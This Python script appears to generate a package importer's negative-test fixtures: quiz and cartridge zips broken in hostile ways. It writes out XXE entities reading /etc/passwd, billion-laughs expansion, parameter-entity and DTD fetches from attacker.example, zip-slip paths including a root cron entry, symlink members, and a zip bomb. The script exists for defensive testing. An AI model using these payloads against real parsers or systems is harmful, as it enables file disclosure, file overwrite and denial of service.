"""Generate the hostile packages of tests/bad/package/, byte for byte the same on every run.

    python tests/bad/package/make_cases.py [OUT_DIR]    # default: this folder

Each package starts from one small valid package and breaks it one way; the names say how:
QTI 2.1 packages (a manifest and one item), ``qti12-*`` Canvas-flavour QTI 1.2 packages (a
manifest, one assessment, Canvas's settings file) and ``cc-*.imscc`` Common Cartridges (the
shared example schemas/examples/cc/cc13-ur-mc). Zips are written by hand-patched zipfile output where zipfile
cannot produce the hostile form (symlink modes, encryption flags, duplicate names), with a
fixed timestamp so the bytes never change. The zip bomb stays small on disk: 10 MiB of
spaces inside an XML element deflate to about 10 KiB (ratio ~1000:1).
"""

from __future__ import annotations

import io
import stat
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

DATE = (1980, 1, 1, 0, 0, 0)
QTI = "http://www.imsglobal.org/xsd/imsqti_v2p1"

ITEM = f"""<?xml version="1.0" encoding="UTF-8"?>
<assessmentItem xmlns="{QTI}" identifier="q1" title="Q1" adaptive="false" timeDependent="false">
  <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">
    <correctResponse><value>A</value></correctResponse>
  </responseDeclaration>
  <itemBody>
    <choiceInteraction responseIdentifier="RESPONSE" shuffle="false" maxChoices="1">
      <prompt>2 + 2?</prompt>
      <simpleChoice identifier="A">4</simpleChoice>
      <simpleChoice identifier="B">5</simpleChoice>
    </choiceInteraction>
  </itemBody>
  <responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"/>
</assessmentItem>
"""

MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <metadata>
    <schema>QTIv2.1 Package</schema>
    <schemaversion>1.0.0</schemaversion>
  </metadata>
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_item_xmlv2p1" href="items/q1.xml">
      <file href="items/q1.xml"/>
    </resource>
  </resources>
</manifest>
"""

XXE_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&xxe;</prompt>")

LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "lol"}">' for i in range(10))
LOL_ITEM = f"""<?xml version="1.0"?>
<!DOCTYPE assessmentItem [{LAUGHS}]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&lol9;</prompt>")

DTD_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem SYSTEM "http://attacker.example/qti.dtd">
""" + ITEM.split("\n", 1)[1]

PARAM_ENTITY_ITEM = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
""" + ITEM.split("\n", 1)[1]

REMOTE_SCHEMA_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    f'xsi:schemaLocation="{QTI} http://attacker.example/imsqti_v2p1.xsd"',
)


def _zip(members: list[tuple[str, bytes]], tweak: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which we want
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = 0o644 << 16
                if tweak is not None:
                    tweak(info)
                zf.writestr(info, data)
    return buf.getvalue()


def _good(**replace: str) -> list[tuple[str, bytes]]:
    files = {"imsmanifest.xml": MANIFEST, "items/q1.xml": ITEM, **replace}
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def _with(name: str, data: bytes, **replace: str) -> list[tuple[str, bytes]]:
    return [*_good(**replace), (name, data)]


def _tweak_member(target: str, fn: Callable[[zipfile.ZipInfo], None]) -> Callable[[zipfile.ZipInfo], None]:
    def tweak(info: zipfile.ZipInfo) -> None:
        if info.filename == target:
            fn(info)

    return tweak


def _symlink(info: zipfile.ZipInfo) -> None:
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _set_encrypted(data: bytes, member: str) -> bytes:
    """Set the "encrypted" flag of a member in its local and central headers (zipfile
    writes no encrypted members, and resets flag_bits a ZipInfo carries into writestr)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        offset = zf.getinfo(member).header_offset
    out[offset + 6] |= 0x1  # local file header: general purpose flags at +6
    name = member.encode()
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    out[central + 8] |= 0x1  # central directory header: flags at +8
    return bytes(out)


def cases() -> dict[str, bytes]:
    item = ITEM.encode()
    return {
        "dotdot-path.zip": _zip(_with("../../evil.xml", item)),
        "dotdot-inside.zip": _zip(_with("items/../../outside/q.xml", item)),
        "absolute-path.zip": _zip(_with("/etc/cron.d/evil", b"* * * * * root id\n")),
        "backslash-path.zip": _zip(_with("..\\..\\windows\\evil.xml", item)),
        "drive-letter.zip": _zip(_with("C:/Windows/evil.xml", item)),
        "symlink.zip": _zip(
            _with("items/link.xml", b"/etc/passwd"), _tweak_member("items/link.xml", _symlink)
        ),
        "duplicate-names.zip": _zip([*_good(), ("items/q1.xml", item.replace(b"2 + 2?", b"3 + 3?"))]),
        "encrypted-member.zip": _set_encrypted(_zip(_good()), "items/q1.xml"),
        "zip-bomb.zip": _zip(_with("items/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")),
        "member-over-size-limit.zip": _zip(
            _with("items/huge.xml", b"<a>" + b"x" * (17 * 1024 * 1024) + b"</a>")
        ),
        "xxe-entity.zip": _zip(_good(**{"items/q1.xml": XXE_ITEM})),
        "xxe-in-manifest.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<?xml version="1.0" encoding="UTF-8"?>\n',
                        '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
                    )
                }
            )
        ),
        "billion-laughs.zip": _zip(_good(**{"items/q1.xml": LOL_ITEM})),
        "external-dtd.zip": _zip(_good(**{"items/q1.xml": DTD_ITEM})),
        "parameter-entity.zip": _zip(_good(**{"items/q1.xml": PARAM_ENTITY_ITEM})),
        "remote-schema-location.zip": _zip(_good(**{"items/q1.xml": REMOTE_SCHEMA_ITEM})),
        "href-outside-package.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="../../etc/passwd"/>'
                    )
                }
            )
        ),
        "href-absolute-url.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="http://attacker.example/q.xml"/>'
                    )
                }
            )
        ),
        "no-manifest.zip": _zip(_good()[1:]),
        "not-a-zip.zip": b"PK\x03\x04 this is not really a zip archive\n",
        "truncated.zip": _zip(_good())[:150],
        "not-well-formed.zip": _zip(_good(**{"items/q1.xml": ITEM.replace("</itemBody>", "")})),
        "utf16-xxe.zip": _zip(
            [(n, d) for n, d in _good()[:1]]
            + [("items/q1.xml", XXE_ITEM.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"))]
        ),
    }


# --------------------------------------------------------------------------- QTI 1.2 and cartridges

QTI12_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <metadata><schema>IMS Content</schema><schemaversion>1.1.3</schemaversion></metadata>
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_xmlv1p2">
      <file href="quiz/quiz.xml"/>
      <dependency identifierref="r2"/>
    </resource>
    <resource identifier="r2" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
        href="quiz/assessment_meta.xml">
      <file href="quiz/assessment_meta.xml"/>
    </resource>
  </resources>
</manifest>
"""

QTI12_ASSESSMENT = """<?xml version="1.0" encoding="UTF-8"?>
<questestinterop>
  <assessment ident="quiz" title="Quiz">
    <section ident="root_section">
      <item ident="q1" title="Q1">
        <itemmetadata><qtimetadata>
          <qtimetadatafield><fieldlabel>question_type</fieldlabel><fieldentry>multiple_choice_question</fieldentry></qtimetadatafield>
        </qtimetadata></itemmetadata>
        <presentation>
          <material><mattext texttype="text/plain">2 + 2?</mattext></material>
          <response_lid ident="response1" rcardinality="Single">
            <render_choice>
              <response_label ident="A"><material><mattext>4</mattext></material></response_label>
              <response_label ident="B"><material><mattext>5</mattext></material></response_label>
            </render_choice>
          </response_lid>
        </presentation>
        <resprocessing>
          <outcomes><decvar varname="SCORE" vartype="Decimal" minvalue="0" maxvalue="100"/></outcomes>
          <respcondition continue="No">
            <conditionvar><varequal respident="response1">A</varequal></conditionvar>
            <setvar action="Set" varname="SCORE">100</setvar>
          </respcondition>
        </resprocessing>
      </item>
    </section>
  </assessment>
</questestinterop>
"""

CANVAS_META = """<?xml version="1.0" encoding="UTF-8"?>
<quiz xmlns="http://canvas.instructure.com/xsd/cccv1p0" identifier="quiz">
  <title>Quiz</title>
  <shuffle_answers>false</shuffle_answers>
</quiz>
"""


def _qti12(**replace: str) -> list[tuple[str, bytes]]:
    files = {
        "imsmanifest.xml": QTI12_MANIFEST,
        "quiz/quiz.xml": QTI12_ASSESSMENT,
        "quiz/assessment_meta.xml": CANVAS_META,
        **replace,
    }
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def _with_doctype(document: str, doctype: str) -> str:
    return document.replace(
        '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0"?>\n' + doctype + "\n"
    )


CC_EXAMPLE = Path(__file__).resolve().parents[3] / "schemas" / "examples" / "cc" / "cc13-ur-mc"
CC_MANIFEST = (CC_EXAMPLE / "imsmanifest.xml").read_text(encoding="utf-8")
CC_ASSESSMENT = (CC_EXAMPLE / "quiz-ur-001" / "assessment.xml").read_text(encoding="utf-8")
CC_RESPONSE_LABEL_C = CC_ASSESSMENT[
    CC_ASSESSMENT.index('              <response_label ident="C">') : CC_ASSESSMENT.index(
        "            </render_choice>"
    )
]


def _cc(**replace: str) -> list[tuple[str, bytes]]:
    files = {"imsmanifest.xml": CC_MANIFEST, "quiz-ur-001/assessment.xml": CC_ASSESSMENT, **replace}
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def qti12_and_cc_cases() -> dict[str, bytes]:
    entity = '<!DOCTYPE questestinterop [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return {
        "qti12-internal-subset.zip": _zip(
            _qti12(**{"quiz/quiz.xml": _with_doctype(QTI12_ASSESSMENT, entity).replace("2 + 2?", "&xxe;")})
        ),
        "qti12-billion-laughs.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": _with_doctype(
                        QTI12_ASSESSMENT, f"<!DOCTYPE questestinterop [{LAUGHS}]>"
                    ).replace("2 + 2?", "&lol9;")
                }
            )
        ),
        "qti12-utf16-internal-subset.zip": _zip(
            [
                *_qti12()[:1],
                (
                    "quiz/quiz.xml",
                    _with_doctype(QTI12_ASSESSMENT, entity)
                    .replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')
                    .encode("utf-16"),
                ),
                *_qti12()[2:],
            ]
        ),
        "qti12-remote-dtd-never-fetched.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": _with_doctype(
                        QTI12_ASSESSMENT,
                        '<!DOCTYPE questestinterop SYSTEM "http://attacker.example/qti.dtd">',
                    ).replace('<item ident="q1"', '<item ident="q1" onload="x"')
                }
            )
        ),
        "qti12-not-dtd-valid.zip": _zip(
            _qti12(**{"quiz/quiz.xml": QTI12_ASSESSMENT.replace("<presentation>", "<presentation><flow/>")})
        ),
        "qti12-missing-file.zip": _zip(_qti12()[:1] + _qti12()[2:]),
        "qti12-href-outside.zip": _zip(
            _qti12(**{"imsmanifest.xml": QTI12_MANIFEST.replace('"quiz/quiz.xml"', '"../../etc/passwd"')})
        ),
        "qti12-bad-canvas-meta.zip": _zip(
            _qti12(**{"quiz/assessment_meta.xml": CANVAS_META.replace(">false<", ">maybe<")})
        ),
        "qti12-zip-bomb.zip": _zip(
            [*_qti12(), ("quiz/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")]
        ),
        "qti12-remote-schema-location.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": QTI12_ASSESSMENT.replace(
                        "<questestinterop>",
                        '<questestinterop xmlns="http://www.imsglobal.org/xsd/ims_qtiasiv1p2" '
                        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
                        '"http://www.imsglobal.org/xsd/ims_qtiasiv1p2 http://attacker.example/qti.xsd">',
                    )
                }
            )
        ),
        "cc-schematron-violation.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace(
                        "cc.multiple_choice.v0p1", "cc.true_false.v0p1"
                    )
                }
            )
        ),
        "cc-xsd-invalid.imscc": _zip(
            _cc(**{"quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace('action="Set"', 'action="Add"')})
        ),
        "cc-missing-resource.imscc": _zip(
            _cc(
                **{
                    "imsmanifest.xml": CC_MANIFEST.replace(
                        'identifierref="quiz-ur-001"', 'identifierref="gone"'
                    )
                }
            )
        ),
        "cc-missing-file.imscc": _zip(_cc()[:1]),
        "cc-xxe.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": _with_doctype(CC_ASSESSMENT, entity).replace(
                        "اسلام آباد</mattext>", "&xxe;</mattext>", 1
                    )
                }
            )
        ),
        "cc-not-a-cartridge.imscc": _zip(_good()),
        "cc-duplicate-item-ident.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace(
                        "    </section>",
                        CC_ASSESSMENT[
                            CC_ASSESSMENT.index("      <item ") : CC_ASSESSMENT.index("    </section>")
                        ]
                        + "    </section>",
                    )
                }
            )
        ),
        "cc-zip-bomb.imscc": _zip(
            [*_cc(), ("quiz-ur-001/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")]
        ),
        "cc-dotdot-path.imscc": _zip([*_cc(), ("../../evil.xml", CC_ASSESSMENT.encode())]),
        "cc-href-outside.imscc": _zip(
            _cc(**{"imsmanifest.xml": CC_MANIFEST.replace('"quiz-ur-001/assessment.xml"', '"../secret.xml"')})
        ),
    }


def main(argv: list[str]) -> None:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).parent
    out.mkdir(parents=True, exist_ok=True)
    for name, data in {**cases(), **qti12_and_cc_cases()}.items():
        (out / name).write_bytes(data)


if __name__ == "__main__":
    main(sys.argv)
